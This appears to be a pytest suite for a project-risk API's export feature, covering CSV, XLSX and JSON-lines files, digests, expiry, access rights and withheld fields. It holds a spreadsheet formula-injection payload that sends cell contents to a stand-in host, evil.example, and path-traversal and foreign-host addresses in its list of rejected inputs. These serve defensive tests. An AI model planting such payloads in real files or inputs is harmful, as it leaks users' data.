"""Lists as files: what a reader would be told page by page, in one file, and nothing else."""

import csv
import hashlib
import io
import json
from base64 import b64encode
from collections.abc import Callable
from datetime import timedelta
from typing import Any
from uuid import UUID

import httpx
import openpyxl
import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient

from app.core.database import Database
from app.core.ids import uuid7
from app.core.model import utc_now
from app.jobs.models import OPEN, JobChunk, JobRun
from app.jobs.retention import discard
from tests.api.jobs.conftest import Crew, eventually
from tests.api.test_risks import FLOOD
from tests.conftest import ClientFor

PATIENCE = 120.0  # seconds: a worker on a busy machine begins with its imports
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def ended(client: TestClient, answer: httpx.Response) -> dict[str, Any]:
    assert answer.status_code == 202, answer.text
    url = answer.headers["Location"]
    return eventually(lambda: (job := client.get(url).json())["status"] not in OPEN and job, PATIENCE)


def exported(client: TestClient, address: str, format: str = "csv", **more: Any) -> httpx.Response:
    """The file of a list."""
    answer = client.post("/v1/exports", json={"address": address, "format": format, **more})
    job = ended(client, answer)
    assert job["status"] == "succeeded", job
    return client.get(f"{answer.headers['Location']}/result")


def rows(answer: httpx.Response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(answer.text, newline="")))


@pytest.fixture
def register(client: TestClient, project: UUID) -> str:
    """A register with seven risks, one of them for those who open files without a thought."""
    register = f"/v1/projects/{project}/risks"
    for number in range(6):
        client.post(register, json={**FLOOD, "title": f"Risk {number}", "review_on": "2027-01-31"})
    client.post(register, json={**FLOOD, "title": EVIL, "cause": "a\x07b  _x0041_ <&>"})
    return register


def test_a_list_as_csv_is_what_its_pages_tell(crew: Crew, client: TestClient, register: str) -> None:
    file = exported(client, f"{register}?sort=-created_at&status=open")
    assert file.headers["Content-Type"].startswith("text/csv")
    assert file.headers["Content-Disposition"].endswith("risks.csv")
    told = client.get(register, params={"sort": "-created_at", "status": "open"}).json()["items"]
    found = rows(file)
    assert [row["reference"] for row in found] == [risk["reference"] for risk in told] and len(found) == 7
    assert found[1]["impact.amount"] == told[1]["impact"]["amount"]
    assert found[1]["probability"] == str(told[1]["probability"])
    assert json.loads(found[1]["withheld"]) == [] and "allowed_actions" not in found[1]
    assert found[0]["title"] == f"'{EVIL}"


def test_the_job_tells_the_digest_and_the_end_of_its_file(
    crew: Crew, client: TestClient, register: str, database: Database
) -> None:
    answer = client.post("/v1/exports", json={"address": register, "columns": ["title", "impact.amount"]})
    job, url = ended(client, answer), f"{answer.headers['Location']}/result"
    file = client.get(url)
    digest = hashlib.sha256(file.content)
    assert job["file_sha256"] == digest.hexdigest() and job["file_bytes"] == len(file.content)
    assert file.headers["Repr-Digest"] == f"sha-256=:{b64encode(digest.digest()).decode()}:"
    assert job["file_type"] == "text/csv" and job["file_expires_at"] > job["ended_at"]
    assert job["result"]["rows"] == 7 and job["result"]["columns"] == ["title", "impact.amount"]
    assert list(rows(file)[0]) == ["title", "impact.amount"]
    id, month = UUID(job["id"]), utc_now() + timedelta(days=31)
    with database.writing() as session:
        session.execute(sa.update(JobRun).where(JobRun.job_id == id).values(file_expires_at=utc_now()))
    assert (gone := client.get(url)).status_code == 410 and gone.json()["type"] == "/problems/file-expired"
    assert discard(database, month) >= 1
    with database.reading() as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(JobChunk).filter_by(job_id=id)) == 0


def test_a_workbook_has_numbers_days_and_no_formula(crew: Crew, client: TestClient, register: str) -> None:
    file = exported(client, f"{register}?sort=created_at", "xlsx")
    book = openpyxl.load_workbook(io.BytesIO(file.content))
    header, first, *_, last = list(book.active.iter_rows())
    assert "spreadsheetml" in file.headers["Content-Type"]
    at = {cell.value: number for number, cell in enumerate(header)}
    assert first[at["title"]].value == "Risk 0"
    assert first[at["impact.amount"]].data_type == "n" and first[at["probability"]].data_type == "n"
    assert str(first[at["review_on"]].value.date()) == "2027-01-31"
    evil = last[at["title"]]
    assert (evil.value, evil.data_type, evil.quotePrefix) == (EVIL, "s", True)
    assert last[at["cause"]].value.replace("_x0007_", "\x07").replace("_x005F_", "_") == "a\x07b  _x0041_ <&>"


def test_json_lines_keep_values_as_they_are(crew: Crew, client: TestClient, register: str) -> None:
    lines = [json.loads(line) for line in exported(client, register, "json_lines").text.splitlines()]
    told = client.get(register).json()["items"]
    assert [line["impact.amount"] for line in lines] == [risk["impact"]["amount"] for risk in told]
    assert lines[-1]["title"] == EVIL and lines[0]["owner"] is None


LISTS: list[tuple[str, Callable[[UUID], str]]] = [
    ("projects", lambda _: "/v1/projects?sort=code"),
    ("register as a table", lambda id: f"/v1/projects/{id}/risk-register.csv"),
    ("decision log", lambda id: f"/v1/projects/{id}/decision-log.csv"),
    ("decisions", lambda id: f"/v1/projects/{id}/decisions"),
    ("cost lines", lambda id: f"/v1/projects/{id}/cost-lines"),
    ("ledger", lambda id: f"/v1/projects/{id}/cost-entries"),
    ("plans", lambda id: f"/v1/projects/{id}/schedule-versions"),
    ("trail", lambda id: f"/v1/audit-events?subject_id={id}"),
    ("history", lambda id: f"/v1/projects/{id}/history"),
]


@pytest.mark.parametrize(("what", "address"), LISTS, ids=[name for name, _ in LISTS])
def test_every_list_is_a_file(
    crew: Crew, client: TestClient, project: UUID, register: str, what: str, address: Callable[[UUID], str]
) -> None:
    url = address(project)
    found, told = rows(exported(client, url)), client.get(url)
    if url.endswith(".csv"):
        assert found == rows(told)
    else:
        items = told.json()["items"]
        assert len(found) == len(items)
        assert [row["id"] for row in found if "id" in row] == [item["id"] for item in items if "id" in item]


def test_what_is_withheld_in_reads_is_withheld_in_the_file(
    crew: Crew, client: TestClient, client_for: ClientFor, organisation_id: UUID, project: UUID
) -> None:
    decisions = f"/v1/projects/{project}/decisions"
    proposed = {"kind": "funding", "title": "More", "question": "Shall we?", "recommendation": "Yes"}
    client.post(decisions, json=proposed)
    reader = client_for(organisation_id, role="reader", on=project)
    (item,) = told = reader.get(decisions).json()["items"]
    assert item["withheld"] and client.get(decisions).json()["items"][0]["withheld"] == []
    found = rows(exported(reader, decisions))
    assert [row["reference"] for row in found] == [item["reference"] for item in told]
    for row, item in zip(found, told, strict=True):
        assert json.loads(row["withheld"]) == item["withheld"]
        assert all(row.get(name, "") == "" for name in item["withheld"])


def test_who_may_not_read_a_list_gets_no_file_of_it(
    crew: Crew, client: TestClient, client_for: ClientFor, organisation_id: UUID, register: str
) -> None:
    stranger = client_for(uuid7())
    assert stranger.post("/v1/exports", json={"address": register}).status_code == 404
    answer = client.post("/v1/exports", json={"address": register})
    ended(client, answer)
    for other in (stranger, client_for(organisation_id, role="reader", member="other")):
        assert other.get(f"{answer.headers['Location']}/result").status_code == 404


def test_rights_are_those_at_the_time_of_running(
    crew: Crew, client: TestClient, client_for: ClientFor, organisation_id: UUID, register: str, project: UUID
) -> None:
    reader = client_for(organisation_id, role="reader", on=project)
    me = reader.get("/v1/me").json()["member_id"]
    with crew.paused():
        answer = reader.post("/v1/exports", json={"address": register})
        (grant,) = client.get("/v1/grants", params={"member_id": me}).json()["items"]
        gone = client.delete(f"/v1/grants/{grant['id']}", headers={"If-Match": f'"{grant["version"]}"'})
        assert gone.status_code == 204, gone.text
    url = answer.headers["Location"]
    job = eventually(lambda: (job := client.get(url).json())["status"] not in OPEN and job, PATIENCE)
    assert (job["status"], job["file_name"]) == ("failed", None)


BAD: list[dict[str, Any]] = [
    {"address": "/v1/nothing"},
    {"address": "/v1/projects?limit=3"},
    {"address": "/v1/projects?state=active"},
    {"address": "/v1/projects?status=nonsense"},
    {"address": "/v1/me"},
    {"address": "/v1//evil.example/v1/projects"},
    {"address": "/v1/projects#risks"},
    {"address": "http://evil.example/v1/projects"},
    {"address": "/v1/projects/../projects"},
    {"address": "/v1/projects", "columns": ["code", "token"]},
    {"address": "/v1/projects", "columns": []},
    {"address": "/v1/projects", "format": "exe"},
]


@pytest.mark.parametrize("body", BAD, ids=[str(body) for body in BAD])
def test_what_is_no_list_is_refused(client: TestClient, body: dict[str, Any]) -> None:
    answer = client.post("/v1/exports", json=body)
    assert answer.status_code == 422, answer.text


def test_a_cancelled_export_leaves_nothing(
    crew: Crew, client: TestClient, register: str, database: Database
) -> None:
    with crew.paused():
        answer = client.post("/v1/exports", json={"address": register})
        assert client.delete(answer.headers["Location"]).json()["status"] == "cancelled"
    with database.reading() as session:
        left = sa.select(sa.func.count()).select_from(JobChunk)
        assert session.scalar(left.filter_by(job_id=UUID(answer.json()["id"]))) == 0
    assert client.get(f"{answer.headers['Location']}/result").status_code == 409


def test_opinions_about_people_are_in_no_file(crew: Crew, client: TestClient, project: UUID) -> None:
    register = f"/v1/projects/{project}/stakeholders"
    who = {"name": "Operator", "kind": "group", "expectations": "To be asked first"}
    made = client.post(register, json=who).headers["Location"]
    assessed = {"assessed_on": "2026-01-31", "power": 5, "interest": 4}
    assessed |= {"engagement": "resistant", "wanted_engagement": "neutral"}
    assert client.post(f"{made}/assessments", json=assessed).status_code == 201
    assert client.get(made).json()["engagement"] == "resistant"
    (row,) = rows(exported(client, register))
    assert (row["name"], row["power"]) == ("Operator", "5")
    assert {row[name] for name in ("expectations", "engagement", "wanted_engagement")} == {""}
